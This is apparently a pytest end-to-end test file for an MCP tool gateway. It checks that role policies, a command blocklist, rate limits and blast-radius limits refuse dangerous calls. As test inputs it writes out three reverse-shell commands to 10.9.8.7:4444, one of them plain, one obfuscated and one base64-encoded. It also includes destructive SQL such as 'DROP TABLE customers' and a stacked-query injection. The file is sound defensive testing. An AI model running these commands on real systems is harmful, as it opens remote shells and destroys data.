"""Issue 5 end to end: the shipped rules/policy.yaml and blocklist through a real gateway,
the official SDK client, and the demo server (its received log proves what got through)."""
from __future__ import annotations

import asyncio
import subprocess
import sys
import time

import pytest

from demo.client import connect
from tests.e2e.conftest import ROOT


def received_text(demo) -> str:
    return "\n".join(r["body"] for r in demo.received())


async def tool_names(gw, roles) -> set[str]:
    async with connect(gw.mcp_url(), gw.token("u-" + "-".join(roles), roles)) as c:
        return {t.name for t in (await c.list_tools()).tools}


@pytest.fixture
def shipped(demo_server, rules_dir, gateway):
    """The demo server behind a gateway with the repository's own rules/."""
    demo = demo_server("json")
    return demo, gateway(rules_dir(demo))


async def test_tools_list_shows_only_what_each_role_may_use(shipped):
    demo, gw = shipped
    assert await tool_names(gw, ["analyst"]) == {"query_sql", "get_customer", "stream_report"}
    assert await tool_names(gw, ["dev"]) == {"run_command", "read_file", "launch_container"}
    assert await tool_names(gw, ["dba"]) == {"query_sql"}
    assert await tool_names(gw, ["nobody"]) == set()


async def test_analyst_drop_table_refused_and_table_survives(shipped):
    demo, gw = shipped
    async with connect(gw.mcp_url(), gw.token("ana", ["analyst"])) as c:
        with pytest.raises(Exception) as e:
            await c.call_tool("query_sql", {"sql": "DROP TABLE customers"})
        assert "analyst-sql-read-only" in str(e.value)
        with pytest.raises(Exception) as e:
            await c.call_tool("query_sql", {"sql": "SELECT 1; DROP TABLE customers"})
        assert "analyst-sql-read-only" in str(e.value)
        r = await c.call_tool("query_sql", {"sql": "SELECT count(*) AS n FROM customers"})
        assert not r.is_error and r.structured_content["rows"][0]["n"] > 0
        # a hidden tool is refused like any denied call
        with pytest.raises(Exception) as e:
            await c.call_tool("run_command", {"command": "ls"})
        assert "default" in str(e.value).lower()
    assert "DROP" not in received_text(demo).upper().replace("DROPS", "")


async def test_dev_reverse_shell_refused_ls_works(shipped):
    demo, gw = shipped
    async with connect(gw.mcp_url(), gw.token("dan", ["dev"])) as c:
        for attack in ("bash -i >& /dev/tcp/10.9.8.7/4444 0>&1",
                       "n''c -e /bin/sh 10.9.8.7 4444",
                       "echo YmFzaCAtaSA+JiAvZGV2L3RjcC8xMC45LjguNy80NDQ0IDA+JjE= | base64 -d | sh"):
            with pytest.raises(Exception) as e:
                await c.call_tool("run_command", {"command": attack})
            assert "blocklist:" in str(e.value)
        r = await c.call_tool("run_command", {"command": "ls -la"})
        assert not r.is_error and "hello.txt" in r.structured_content["output"]
    text = received_text(demo)
    assert "10.9.8.7" not in text and "/dev/tcp" not in text and "YmFzaC" not in text


async def test_privileged_container_never_and_api_keys_read_only(shipped):
    demo, gw = shipped
    async with connect(gw.mcp_url(), gw.token("dan", ["dev"])) as c:
        with pytest.raises(Exception) as e:
            await c.call_tool("launch_container", {"image": "alpine", "privileged": True})
        assert "no-privileged-containers" in str(e.value)
    async with connect(gw.mcp_url(), gw.token("dora", ["dba"])) as c:
        with pytest.raises(Exception) as e:
            await c.call_tool("query_sql", {"sql": "DELETE FROM api_keys"})
        assert "api-keys-read-only" in str(e.value)
    assert "privileged" not in received_text(demo) and "api_keys" not in received_text(demo)


RATE_POLICY = """\
rules:
  - name: limited-customers
    when: {roles: [analyst], tool: get_customer}
    allow: true
    rate_limit: {calls: 2, per: 2}
"""


async def test_rate_limit_trips_with_a_clear_error_and_recovers(stack):
    demo, gw = stack("json", policy=RATE_POLICY)
    async with connect(gw.mcp_url(), gw.token("ana", ["analyst"])) as c:
        for i in (1, 2):
            assert not (await c.call_tool("get_customer", {"id": i})).is_error
        with pytest.raises(Exception) as e:
            await c.call_tool("get_customer", {"id": 3})
        assert "rate limit of 2 calls per 2s exceeded" in str(e.value) and "retry after" in str(e.value)
        await asyncio.sleep(1.2)                       # one call refills in 1 s
        assert not (await c.call_tool("get_customer", {"id": 3})).is_error
    # a different identity has its own budget
    async with connect(gw.mcp_url(), gw.token("bea", ["analyst"])) as c:
        assert not (await c.call_tool("get_customer", {"id": 1})).is_error


ALLOW_CUSTOMERS = """\
rules:
  - name: customers
    when: {roles: [analyst], tool: get_customer}
    allow: true
"""
DENY_CUSTOMERS = """\
rules:
  - name: customers-frozen
    when: {roles: [analyst], tool: get_customer}
    deny: customer lookups are frozen
"""


async def _until(fn, timeout: float = 2.5):
    t0 = time.monotonic()
    while True:
        try:
            return await fn(), time.monotonic() - t0
        except AssertionError:
            if time.monotonic() - t0 > timeout:
                raise
            await asyncio.sleep(0.1)


async def test_hot_reload_follows_edits_and_keeps_last_good_rules(stack):
    demo, gw = stack("json", policy=ALLOW_CUSTOMERS)
    policy_file = gw.rules / "policy.yaml"
    token = gw.token("ana", ["analyst"])
    async with connect(gw.mcp_url(), token) as c:
        assert not (await c.call_tool("get_customer", {"id": 1})).is_error
        policy_file.write_text(DENY_CUSTOMERS)

        async def denied():
            try:
                await c.call_tool("get_customer", {"id": 1})
            except Exception as e:  # noqa: BLE001 - the SDK raises its own error type
                assert "customers-frozen" in str(e)
                return
            raise AssertionError("still allowed")
        _, took = await _until(denied)
        assert took < 2.5
        # a broken edit is rejected; the previous (deny) rules stay in force
        policy_file.write_text(ALLOW_CUSTOMERS + "  - name: broken\n    when: [unclosed\n")
        deadline = time.monotonic() + 5
        while "policy reload rejected" not in gw.log_text() and time.monotonic() < deadline:
            await asyncio.sleep(0.1)
        log = gw.log_text()
        assert "policy reload rejected" in log and "policy.yaml:" in log
        await denied()


def cli(*args: str) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "addons.cli", *args], capture_output=True, text=True,
                          cwd=ROOT, timeout=60)


def test_check_and_explain_cli(tmp_path, demo_server, rules_dir):
    # the shipped rules with the demo connection's credential file present (a fresh clone
    # has none until ./run.sh creates it, and check verifies credentials resolve)
    good = rules_dir(demo_server("stateless"))
    ok = cli("check", str(good))
    assert ok.returncode == 0 and "OK (9 policy rules" in ok.stdout, ok.stdout + ok.stderr
    bad = tmp_path / "rules"
    bad.mkdir()
    (bad / "connections.yaml").write_text((good / "connections.yaml").read_text())
    (bad / "policy.yaml").write_text("rules:\n  - name: a\n    when: {tool: x}\n    allow: maybe\n")
    r = cli("check", str(bad))
    assert r.returncode == 1 and "policy.yaml:4" in r.stdout, r.stdout
    r = cli("explain", "--sub", "ana", "--roles", "analyst", "--connection", "demo", "--tool", "query_sql",
            "--args", '{"sql": "DROP TABLE customers"}')
    assert r.returncode == 0 and "decision: DENY  rule: analyst-sql-read-only" in r.stdout, r.stdout
    assert "rules/policy.yaml:" in r.stdout


BLAST_POLICY = """\
rules:
  - name: reports-bounded
    when: {roles: [analyst], tool: stream_report}
    allow: true
    blast_radius: {items: $.steps, max_per_call: 5, max_per_window: 8, per: 3600}
"""


async def test_blast_radius_trips_and_passes(stack):
    demo, gw = stack("json", policy=BLAST_POLICY)
    async with connect(gw.mcp_url(), gw.token("ana", ["analyst"])) as c:
        ok = await c.call_tool("stream_report", {"steps": 3, "delay": 0})
        assert not ok.is_error
        with pytest.raises(Exception) as e:
            await c.call_tool("stream_report", {"steps": 50, "delay": 0})
        assert "touches 50 items ($.steps), the limit is 5 per call" in str(e.value)
        assert not (await c.call_tool("stream_report", {"steps": 5, "delay": 0})).is_error     # 3 + 5 = 8
        with pytest.raises(Exception) as e:
            await c.call_tool("stream_report", {"steps": 1, "delay": 0})
        assert "may touch 8 items per 3600s" in str(e.value)
    assert '"steps": 50' not in received_text(demo) and '"steps":50' not in received_text(demo)
